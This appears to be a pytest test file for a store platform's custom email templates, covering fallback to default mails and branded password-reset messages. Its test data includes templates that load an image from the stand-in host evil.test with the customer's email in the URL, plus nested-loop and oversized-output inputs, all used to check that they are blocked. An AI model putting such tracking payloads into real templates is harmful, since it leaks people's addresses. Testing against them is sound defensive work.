"""A store's own words are used where it has some, and whatever is wrong with them stops no mail."""

from collections.abc import Callable
from datetime import UTC, datetime
from typing import Any

import pytest
from pynamodb.expressions.operand import Path

from tests.support.client import Client
from tests.support.html import HtmlPage
from tests.support.mail import Sent, announced, deliver
from tests.support.ordering import open_market
from tests.support.table import counted_calls, everything, stored
from tests.support.world import PASSWORD, Shop, open_shop
from tradepost.table.email_templates import note_failure, template_key
from tradepost.table.records import Record

PATH = "/v1/email-templates"
WORDS = {"subject": "Join us, {{ company }}", "html": "<p>Join us: {{ link }}</p>", "text": "Join us: {{ link }}"}


def put(shop: Shop, name: str, **parts: str) -> None:
    reply = shop.owner.put(
        f"{PATH}/{name}", {"subject": "Ours", "html": "<p>Our own words</p>", "text": "Our own words", **parts}
    )
    assert reply.status == 201, reply.text


def invited(shop: Shop, **fields: Any) -> Sent:
    """Invite a customer and return the mail."""
    shop.invite(shop.add_customer(**fields)["id"])
    return deliver()[-1]


def failure(shop: Shop, name: str = "invitation") -> str | None:
    """Return why the last mail was not written in the store's own words."""
    told = shop.owner.get(f"{PATH}/{name}").json["last_failure"]
    return None if told is None else told["message"]


def test_mails_are_written_in_the_stores_own_words(shop: Shop) -> None:
    put(shop, "invitation", **WORDS)
    mail = invited(shop)
    assert mail.subject == "Join us, Blue Door"
    assert "https://portal.example/i/" in mail.html
    assert "Sent by Tradepost for Acme" in HtmlPage(mail.html).text
    assert failure(shop) is None


def test_another_stores_words_are_not_used(shop: Shop, api: Client) -> None:
    put(open_shop(api, "other"), "invitation", **WORDS)
    assert invited(shop).subject == "Acme invites Blue Door to order online"


def test_an_order_is_told_in_the_stores_own_words(shop: Shop) -> None:
    market = open_market(shop)
    html = "{% for line in order.lines %}<p>{{ line.quantity }} x {{ line.name }}</p>{% endfor %}"
    put(shop, "order_placed", subject="Got {{ order.number }}", html=html, text="{% render 'order', order: order %}")
    market.place()
    mail = deliver()[-1]
    assert mail.subject.startswith("Got O-")
    assert " x " in HtmlPage(mail.html).text


def set_html(html: Any) -> Callable[[], Any]:
    return lambda: _break(Path("data.html").set(html))


def _break(*actions: Any) -> None:
    Record(*template_key("acme", "invitation")).update(list(actions))


BROKEN: list[tuple[str, Callable[[], Any], str]] = [
    ("an unknown variable", set_html("<p>\n{{ gone }}</p>"), "html, line 2: 'gone' is undefined"),
    ("an unknown filter", set_html("{{ link | gone }}"), "html, line 1: unknown filter 'gone'"),
    ("a tag that is not closed", set_html("{% if link %}x"), "html, line 1: `if` is not ended by `endif`"),
    ("a part of ours that is gone", set_html("{% render 'footer' %}"), "html, line 1: there is no part `footer`"),
    (
        "loops without end",
        set_html("{% for a in (1..999) %}{% for b in (1..999) %}x{% endfor %}{% endfor %}"),
        "html, line 1: loop",
    ),
    (
        "too much to do",
        set_html("{% for a in (1..999) %}" + "{% assign x = link | upcase %}" * 1_900 + "{% endfor %}"),
        "it has too much to do",
    ),
    ("too much to say", set_html("{% for a in (1..999) %}" + "x" * 9_000 + "{% endfor %}"), "html, line 1: output"),
    ("nothing to say", set_html(""), "html, says nothing"),
    ("a subject that says nothing", lambda: _break(Path("data.subject").set("{% if false %}x{% endif %}")), "subject, says"),
    ("no words at all", lambda: _break(Path("data.html").remove(), Path("data.text").remove()), "html, says nothing"),
    ("words that are none", set_html(5), "the template cannot be used (ValidationError)"),
    ("no time of change", lambda: _break(Path("data.updated_at").remove()), "the template cannot be used (ValidationError)"),
]


@pytest.mark.parametrize(("damage", "message"), [each[1:] for each in BROKEN], ids=[each[0] for each in BROKEN])
def test_whatever_is_wrong_with_own_words_the_mail_goes_out_in_the_defaults(
    shop: Shop, damage: Callable[[], Any], message: str
) -> None:
    put(shop, "invitation", **WORDS)
    damage()
    mail = invited(shop)
    assert mail.subject == "Acme invites Blue Door to order online"
    assert "https://portal.example/i/" in mail.html
    [template] = stored("email_template")
    assert message in template["last_failure"]["message"]
    assert template["version"] == 1
    assert [item["status"] for item in stored("outbox")] == ["done"]


def test_an_item_that_takes_no_note_stops_no_mail_either(shop: Shop) -> None:
    put(shop, "invitation", **WORDS)
    _break(Path("data.html").set("{{ gone }}"), Record.aside.remove())
    assert invited(shop).subject == "Acme invites Blue Door to order online"


def test_what_went_wrong_is_told_until_the_words_are_changed_and_names_nobody(shop: Shop) -> None:
    put(shop, "invitation", **WORDS)
    _break(Path("data.html").set("{{ company }}\n{{ gone }}"))
    invited(shop)
    assert failure(shop) == "html, line 2: 'gone' is undefined"
    listed = {item["name"]: item["last_failure"] for item in shop.owner.get(PATH).json["items"]}
    assert [name for name, told in listed.items() if told] == ["invitation"]
    assert shop.owner.get(f"{PATH}/invitation").headers["etag"] == '"1"'
    assert shop.owner.put(f"{PATH}/invitation", WORDS, etag='"1"').json["last_failure"] is None
    assert failure(shop) is None


def test_a_failure_of_words_that_were_changed_meanwhile_is_not_noted(shop: Shop) -> None:
    put(shop, "invitation", **WORDS)
    key, at = template_key("acme", "invitation"), datetime(2026, 11, 22, tzinfo=UTC)
    assert note_failure(key, 1, "old", at=at) is True
    shop.owner.put(f"{PATH}/invitation", WORDS, etag='"1"')
    assert note_failure(key, 1, "old", at=at) is False
    assert failure(shop) is None
    shop.owner.delete(f"{PATH}/invitation", etag='"2"')
    assert note_failure(key, 2, "old", at=at) is False
    assert stored("email_template") == []


def test_own_words_cost_no_further_call(shop: Shop) -> None:
    put(shop, "invitation", **WORDS)
    shop.invite(shop.add_customer("One", "one@doors.test")["id"])
    with counted_calls() as own:
        deliver()
    shop.owner.delete(f"{PATH}/invitation", etag='"1"')
    shop.invite(shop.add_customer("Two", "two@doors.test")["id"])
    with counted_calls() as default:
        deliver()
    assert own == default


def test_an_address_that_the_store_does_not_know_is_not_told_to_its_own_words(shop: Shop) -> None:
    put(shop, "invitation", html="<img src='https://evil.test/{{ email }}'>")
    shop.invite(shop.add_customer()["id"])
    [invitation] = stored("invitation")
    Record(invitation["pk"], invitation["sk"]).update([Path("data.private").set(True)])
    [mail] = deliver()
    assert "evil.test" not in mail.html
    assert mail.subject == "Acme invites Blue Door to order online"


# The password is the person's, not a store's.


def reset(shop: Shop, email: str, **store: str) -> Any:
    return shop.owner.as_(None).post("/v1/password-resets", {"email": email, **store})


def test_a_reset_that_is_asked_for_at_a_store_of_the_person_bears_its_brand_and_words_and_our_link(shop: Shop) -> None:
    put(shop, "password_reset", subject="{{ store.name }}: your password", html="<p>Our own words</p>")
    assert reset(shop, "ola@acme.test", store="acme").status == 202
    mail = deliver()[-1]
    page = HtmlPage(mail.html)
    assert mail.subject == "Acme: your password"
    assert "Acme" in mail.sender
    assert "Our own words" in page.text
    assert "Sent by Tradepost for Acme" in page.text
    [button] = [link for link in page.all("a") if link["class"] == "button"]
    assert button["href"].startswith("https://portal.example/r/tp_reset_")
    assert announced()[-1]["store_id"] == "acme"
    # And so does the mail that says it was done.
    put(shop, "password_changed", subject="{{ store.name }}: changed")
    token = button["href"].rpartition("/r/")[2]
    assert shop.owner.put(f"/v1/password-resets/{token}", {"new_password": "nine grey gulls at dusk"}).status == 204
    assert deliver()[-1].subject == "Acme: changed"
    assert token not in everything()


@pytest.mark.parametrize("store", [{}, {"store": "other"}, {"store": "nowhere"}])
def test_a_reset_that_is_asked_for_elsewhere_is_neutral_and_answered_alike(
    shop: Shop, api: Client, store: dict[str, str]
) -> None:
    other = open_shop(api, "other")
    for each in (shop, other):
        put(each, "password_reset")
    known, unknown, there = (reset(shop, email, **store) for email in ("ola@acme.test", "nobody@acme.test", "ola@other.test"))
    assert known.text == unknown.text == there.text
    [mail] = [mail for mail in deliver() if mail.to == "ola@acme.test"]
    assert mail.subject == "Choose a new password"
    assert "Tradepost" in mail.sender
    assert "Our own words" not in mail.html


def test_a_person_who_lost_the_place_is_not_written_to_as_the_stores(shop: Shop) -> None:
    customer = shop.add_customer()
    shop.join(customer)
    shop.owner.post("/v1/invitations/revoke", {"customer_ids": [customer["id"]]})
    deliver()
    reset(shop, "buyer@bluedoor.test", store="acme")
    assert deliver()[-1].subject == "Choose a new password"
    assert announced()[-1]["store_id"] is None


def test_what_is_no_slug_is_refused_for_everybody(shop: Shop) -> None:
    for email in ("ola@acme.test", "nobody@acme.test"):
        assert reset(shop, email, store="No Slug").json["errors"][0]["pointer"] == "/store"
    assert announced() == []


def test_broken_words_never_stop_a_reset(shop: Shop) -> None:
    put(shop, "password_reset")
    Record(*template_key("acme", "password_reset")).update([Path("data.html").set("<img src='https://evil.test/?")])
    reset(shop, "ola@acme.test", store="acme")
    mail = deliver()[-1]
    assert "evil.test" not in mail.html
    assert "https://portal.example/r/tp_reset_" in mail.html
    assert "Sent by Tradepost for Acme" in HtmlPage(mail.html).text
    assert "only plain tags" in (failure(shop, "password_reset") or "")


def test_a_password_that_is_changed_while_logged_in_to_a_store_is_told_in_its_words(shop: Shop) -> None:
    put(shop, "password_changed", subject="{{ store.name }}: changed", text="{{ changed_at }}")
    change = {"current_password": PASSWORD, "new_password": "nine grey gulls at dusk"}
    assert shop.owner.put("/v1/me/password", change).status == 204
    mail = deliver()[-1]
    assert (mail.to, mail.subject) == ("ola@acme.test", "Acme: changed")
